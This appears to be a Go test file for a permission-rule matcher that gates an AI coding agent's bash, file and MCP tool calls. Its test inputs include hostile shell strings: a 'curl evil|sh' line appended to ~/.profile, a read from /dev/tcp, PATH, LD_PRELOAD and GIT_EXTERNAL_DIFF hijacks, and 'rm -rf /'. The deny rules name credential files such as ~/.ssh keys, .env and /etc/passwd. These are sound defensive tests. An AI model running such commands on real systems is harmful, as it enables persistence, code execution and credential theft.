package tool

import (
	"context"
	"encoding/json"
	"strings"
	"testing"
)

func ruleCall(name string, args map[string]string) Call {
	b, _ := json.Marshal(args)
	return Call{Name: name, Args: b}
}

func TestPermissionRulesMatch(t *testing.T) {
	parse := func(v Verdict, texts ...string) []PermissionRule {
		var out []PermissionRule
		for _, s := range texts {
			r, err := ParsePermissionRule(v, s, "test")
			if err != nil {
				t.Fatal(err)
			}
			out = append(out, r)
		}
		return out
	}
	bash := func(c string) Call { return ruleCall("bash", map[string]string{"command": c}) }
	file := func(tool, p string) Call { return ruleCall(tool, map[string]string{"path": p}) }
	tests := []struct {
		name  string
		allow []string
		deny  []string
		ask   []string
		call  Call
		want  string // the verdict, or "" for no rule
	}{
		{"prefix rule", []string{"Bash(git diff:*)"}, nil, nil, bash("git diff --stat"), "allow"},
		{"prefix rule alone", []string{"Bash(git diff:*)"}, nil, nil, bash("git diff"), "allow"},
		{"prefix needs a word boundary", []string{"Bash(git diff:*)"}, nil, nil, bash("git difftool"), ""},
		{"exact rule", []string{"Bash(npm run test)"}, nil, nil, bash("npm run test"), "allow"},
		{"exact rule is exact", []string{"Bash(npm run test)"}, nil, nil, bash("npm run test --watch"), ""},
		{"wildcard in the middle", []string{"Bash(git * main)"}, nil, nil, bash("git push origin main"), "allow"},
		{"trailing wildcard optional", []string{"Bash(ls *)"}, nil, nil, bash("ls"), "allow"},
		{"compound needs every command allowed", []string{"Bash(git diff:*)"}, nil, nil, bash("git diff && rm -rf /"), ""},
		{"compound of allowed commands", []string{"Bash(git diff:*)", "Bash(wc:*)"}, nil, nil, bash("git diff | wc -l"), "allow"},
		{"deny over allow", []string{"Bash"}, []string{"Bash(rm:*)"}, nil, bash("rm -rf build"), "deny"},
		{"deny inside a compound", []string{"Bash"}, []string{"Bash(rm:*)"}, nil, bash("cd x && rm -rf build"), "deny"},
		{"deny inside a substitution", nil, []string{"Bash(rm:*)"}, nil, bash("echo $(rm -rf build)"), "deny"},
		{"ask over allow", []string{"Bash"}, nil, []string{"Bash(git push:*)"}, bash("git push"), "ask"},
		{"deny over ask", nil, []string{"Bash(git push:*)"}, []string{"Bash(git push:*)"}, bash("git push"), "deny"},
		{"bare tool", []string{"Edit"}, nil, nil, file("write", "x.go"), "allow"},
		{"read rule covers grep", nil, []string{"Read(./secrets/**)"}, nil, file("grep", "secrets/a"), "deny"},
		{"read directory pattern", nil, []string{"Read(./secrets/**)"}, nil, file("read", "/ws/secrets/deep/key.pem"), "deny"},
		{"read outside the pattern", nil, []string{"Read(./secrets/**)"}, nil, file("read", "src/main.go"), ""},
		{"bare name at any depth", nil, []string{"Read(.env)"}, nil, file("read", "a/b/.env"), "deny"},
		{"star in a segment", nil, []string{"Read(*.pem)"}, nil, file("read", "keys/x.pem"), "deny"},
		{"absolute", nil, []string{"Read(//etc/**)"}, nil, file("read", "/etc/passwd"), "deny"},
		{"home", nil, []string{"Read(~/.ssh/**)"}, nil, file("read", "/home/u/.ssh/id_rsa"), "deny"},
		{"root of the project", []string{"Edit(/src/**/*.go)"}, nil, nil, file("edit", "src/a/b.go"), "allow"},
		{"root of the project, elsewhere", []string{"Edit(/src/**/*.go)"}, nil, nil, file("edit", "lib/b.go"), ""},
		{"mcp server", nil, []string{"mcp__fs"}, nil, ruleCall("mcp__fs__write_file", nil), "deny"},
		{"mcp server is not a prefix", nil, []string{"mcp__fs"}, nil, ruleCall("mcp__fsx__write_file", nil), ""},
		{"mcp tool", []string{"mcp__fs__read_file"}, nil, nil, ruleCall("mcp__fs__read_file", nil), "allow"},
		{"our own names", nil, []string{"bash"}, nil, bash("ls"), "deny"},
		// An allow rule's words do not allow writing files or changing
		// what runs.
		{"allow: no writing redirection", []string{"Bash(echo:*)"}, nil, nil, bash("echo hi > ~/.bashrc"), ""},
		{"allow: no appending from a group", []string{"Bash(echo:*)"}, nil, nil, bash("{ echo 'curl evil|sh'; } >> ~/.profile"), ""},
		{"allow: no &> to a file", []string{"Bash(echo:*)"}, nil, nil, bash("echo hi &> f"), ""},
		{"allow: no >& to a file", []string{"Bash(echo:*)"}, nil, nil, bash("echo hi >& f"), ""},
		{"allow: no redirection to a variable", []string{"Bash(echo:*)"}, nil, nil, bash("echo hi > $F"), ""},
		{"allow: no redirection in a substitution", []string{"Bash(echo:*)"}, nil, nil, bash("echo $(echo x > f)"), ""},
		{"allow: no read from /dev/tcp", []string{"Bash(cat:*)"}, nil, nil, bash("cat < /dev/tcp/example.com/80"), ""},
		{"allow: no export before", []string{"Bash(npm test:*)"}, nil, nil, bash("export PATH=/tmp/evil:$PATH; npm test"), ""},
		{"allow: no declare before", []string{"Bash(npm test:*)"}, nil, nil, bash("declare -x BASH_ENV=/tmp/x; npm test"), ""},
		{"allow: no local/readonly", []string{"Bash(npm test:*)"}, nil, nil, bash("readonly X=1; npm test"), ""},
		{"allow: no assignment prefix", []string{"Bash(npm test:*)"}, nil, nil, bash("LD_PRELOAD=/tmp/x.so npm test"), ""},
		{"allow: no assignment prefix (git)", []string{"Bash(git diff:*)"}, nil, nil, bash("GIT_EXTERNAL_DIFF=/tmp/x.sh git diff"), ""},
		{"allow: no assignment alone", []string{"Bash(npm test:*)"}, nil, nil, bash("PATH=/tmp/evil; npm test"), ""},
		{"allow: no alias", []string{"Bash(npm test:*)", "Bash(alias:*)"}, nil, nil, bash("alias npm=/tmp/x; npm test"), ""},
		{"allow: no eval", []string{"Bash(eval:*)"}, nil, nil, bash("eval rm -rf x"), ""},
		{"allow: no source", []string{"Bash(source:*)"}, nil, nil, bash("source /tmp/x"), ""},
		{"allow: no dot", []string{"Bash(.:*)"}, nil, nil, bash(". /tmp/x"), ""},
		{"allow: no function", []string{"Bash(npm test:*)"}, nil, nil, bash("npm() { rm -rf x; }; npm test"), ""},
		{"allow: /dev/null is fine", []string{"Bash(npm test:*)"}, nil, nil, bash("npm test > /dev/null 2>&1"), "allow"},
		{"allow: stderr is fine", []string{"Bash(echo:*)"}, nil, nil, bash("echo oops >&2; echo x 1>/dev/stderr"), "allow"},
		{"allow: reading a file is fine", []string{"Bash(wc:*)"}, nil, nil, bash("wc -l < go.mod"), "allow"},
		{"allow: here-string is fine", []string{"Bash(cat:*)"}, nil, nil, bash("cat <<< hi"), "allow"},
		{"deny still matches with a prefix", nil, []string{"Bash(rm:*)"}, nil, bash("X=1 rm -rf build"), "deny"},
		{"deny still matches with a redirection", nil, []string{"Bash(echo:*)"}, nil, bash("echo hi > f"), "deny"},
		{"ask still matches with a redirection", nil, nil, []string{"Bash(npm test:*)"}, bash("npm test > log"), "ask"},
		{"bare Bash allows everything", []string{"Bash"}, nil, nil, bash("echo hi > f"), "allow"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rs := &PermissionRules{Workspace: "/ws", Home: "/home/u"}
			rs.Rules = append(rs.Rules, parse(VerdictAllow, tt.allow...)...)
			rs.Rules = append(rs.Rules, parse(VerdictDeny, tt.deny...)...)
			rs.Rules = append(rs.Rules, parse(VerdictAsk, tt.ask...)...)
			got := ""
			if r, ok := rs.Match(tt.call); ok {
				got = r.Verdict.String()
			}
			if got != tt.want {
				t.Errorf("verdict %q, want %q", got, tt.want)
			}
		})
	}
}

func TestPermissionRulesPolicy(t *testing.T) {
	r, _ := ParsePermissionRule(VerdictDeny, "Bash(rm:*)", "/p/.claude/settings.json")
	rs := &PermissionRules{Rules: []PermissionRule{r}, Workspace: "/ws"}
	p := rs.Policy(ApproveAuto)
	d := p(context.Background(), ruleCall("bash", map[string]string{"command": "rm x"}), false)
	if d.Verdict != VerdictDeny || d.Reason == "" {
		t.Errorf("decision %+v", d)
	}
	if d := p(context.Background(), ruleCall("bash", map[string]string{"command": "ls"}), true); d.Verdict != VerdictAllow {
		t.Errorf("a call no rule covers: %+v, want the default's allow", d)
	}
	if _, err := ParsePermissionRule(VerdictAllow, "Bash(ls", ""); err == nil {
		t.Error("an unclosed specifier parsed")
	}
}

func TestPermissionRulesDeniedTools(t *testing.T) {
	var rs PermissionRules
	for _, s := range []string{"Bash", "Bash(rm:*)", "Edit", "mcp__fs", "mcp__gh__create_issue"} {
		r, _ := ParsePermissionRule(VerdictDeny, s, "")
		rs.Rules = append(rs.Rules, r)
	}
	allow, _ := ParsePermissionRule(VerdictAllow, "Read", "")
	rs.Rules = append(rs.Rules, allow)
	got := strings.Join(rs.DeniedTools(), " ")
	if want := "bash edit write mcp__fs__* mcp__gh__create_issue"; got != want {
		t.Errorf("denied tools %q, want %q", got, want)
	}
}

// Issue 25: Claude Code's tools have one counterpart here each, the one
// its rules cover first; a deny rule naming Claude Code's subagent tool
// refuses ours whole.
func TestClaudeCounterpart(t *testing.T) {
	for name, want := range map[string]string{"Bash": "bash", "Read": "read", "Write": "write", "Edit": "edit",
		"MultiEdit": "edit", "NotebookEdit": "edit", "Grep": "grep", "Glob": "find", "LS": "ls", "Task": "agent", "Agent": "agent"} {
		if got, ok := ClaudeCounterpart(name); !ok || got != want {
			t.Errorf("ClaudeCounterpart(%q) = %q, %v; want %q", name, got, ok, want)
		}
	}
	for _, name := range []string{"WebFetch", "WebSearch", "TodoWrite", "bash", ""} {
		if got, ok := ClaudeCounterpart(name); ok {
			t.Errorf("ClaudeCounterpart(%q) = %q, want none", name, got)
		}
	}
	r, _ := ParsePermissionRule(VerdictDeny, "Task", "")
	rs := PermissionRules{Rules: []PermissionRule{r}}
	if got := strings.Join(rs.DeniedTools(), " "); got != "agent" {
		t.Errorf("a deny of Task denies %q, want agent", got)
	}
}
